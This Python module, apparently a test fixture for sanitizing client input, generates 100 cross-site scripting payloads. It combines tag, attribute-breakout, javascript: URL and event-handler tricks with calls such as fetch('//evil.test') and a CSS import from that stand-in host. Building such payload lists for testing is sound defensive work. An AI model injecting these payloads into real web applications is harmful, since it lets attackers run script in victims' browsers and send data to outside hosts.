"""What a client may write to get at a manager's browser: a hundred ways, each by its own trick."""

from __future__ import annotations

_CALLS = ("alert(1)", "parent.hit=1", "document.body.dataset.hit=1", "fetch('//evil.test')")
_SHAPES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}"//',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onfocus={} autofocus x="',
    "' onmouseover={} x='",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    "<style>@import '//evil.test/{}';</style>",
    "<template><script>{}</script></template>",
    "${{{}}} {{{{{}}}}} {{% raw %}} %(name)s {{0}}",
)

PAYLOADS = tuple(shape.replace("{}", call) for shape in _SHAPES for call in _CALLS)
assert len(set(PAYLOADS)) == 100
